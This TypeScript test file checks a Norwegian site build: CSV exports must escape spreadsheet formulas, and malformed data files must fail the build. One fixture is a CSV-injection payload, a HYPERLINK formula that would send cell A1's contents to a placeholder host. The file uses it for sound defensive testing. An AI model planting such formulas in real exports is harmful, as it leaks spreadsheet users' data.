/**
 * Builds of the small fixture set with hostile and broken data: the /data/ CSVs neutralise an
 * editor's formula (read back with csv-parse, not the project's reader), and the build refuses
 * an empty number cell and a CSV saved in Windows-1252, naming each file and line.
 */
import { cpSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { buildFixture, OUTPUT, ROOT } from '../helpers/build';

const root = ROOT;
const output = OUTPUT;
const build = buildFixture;

/** A copy of the small fixture set under tests/.output, to add files to. */
function contentCopy(name: string) {
  const dir = join(output, name);
  rmSync(dir, { recursive: true, force: true });
  mkdirSync(dir, { recursive: true });
  cpSync(join(root, 'tests/fixtures/content-small'), dir, { recursive: true });
  return dir;
}

const HOSTILE_TITLE = '=HYPERLINK("https://x.example/?d="&A1;"Klikk her")';
const HOSTILE_SUMMARY = '-2+3 er et sammendrag som et regneark ville regnet ut som en formel.';

describe('build with an editor formula in a project', () => {
  it('writes it to /data/prosjekter.csv as text behind an apostrophe', () => {
    const dir = contentCopy('content-hostile-csv');
    writeFileSync(
      join(dir, 'prosjekter/formel-i-tittel.md'),
      [
        '---',
        `tittel: '${HOSTILE_TITLE}'`,
        'kommuner: [tana]',
        'sektor: [oppvekst]',
        'fokus: [kvalitet]',
        'periode: { start: 2008-01-01 }',
        'status: pågår',
        `sammendrag: '${HOSTILE_SUMMARY}'`,
        'eksempeldata: true',
        '---',
        'Fiktiv prosjekttekst.',
        '',
      ].join('\n'),
    );
    const run = build(dir.slice(root.length + 1), 'build-hostile-csv');
    expect(run.status, run.log).toBe(0);
    const rows: Record<string, string>[] = parse(readFileSync(join(run.outDir, 'data/prosjekter.csv'), 'utf8'), {
      delimiter: ';',
      bom: true,
      columns: true,
    });
    const row = rows.find((r) => r.id === 'formel-i-tittel')!;
    expect(row.tittel).toBe(`'${HOSTILE_TITLE}`);
    expect(row.sammendrag).toBe(`'${HOSTILE_SUMMARY}`);
    for (const r of rows) for (const cell of Object.values(r)) expect(cell, cell).not.toMatch(/^[\s\p{Cc}]*[=+\-@]/u);
    // JSON keeps the text as it is: it is data, not a spreadsheet.
    const json = JSON.parse(readFileSync(join(run.outDir, 'data/prosjekter.json'), 'utf8')) as {
      id: string;
      tittel: string;
    }[];
    expect(json.find((p) => p.id === 'formel-i-tittel')!.tittel).toBe(HOSTILE_TITLE);
  });
});

describe('build with broken data files', () => {
  it('fails, naming the empty cell and the Windows-1252 file with their lines', () => {
    const dir = contentCopy('content-broken-data');
    for (const file of ['sykefravaer/tom-celle.csv', 'sykefravaer/windows-1252.csv']) {
      cpSync(join(root, 'tests/fixtures/content-broken', file), join(dir, file));
    }
    const run = build(dir.slice(root.length + 1), 'build-broken-data');
    expect(run.status).not.toBe(0);
    expect(run.log).toMatch(
      /sykefravaer\/tom-celle\.csv:2 kolonne tapte_dagsverk: fant «»; forventet et tall, ikke en tom celle/,
    );
    expect(run.log).toMatch(/sykefravaer\/windows-1252\.csv:1 \(tegnsett\): filen er ikke lagret som UTF-8/);
    expect(run.log).toContain('«CSV UTF-8 (kommadelt) (*.csv)»');
    expect(run.log).not.toContain('\uFFFD');
    expect(existsSync(join(run.outDir, 'index.html'))).toBe(false);
  });
});
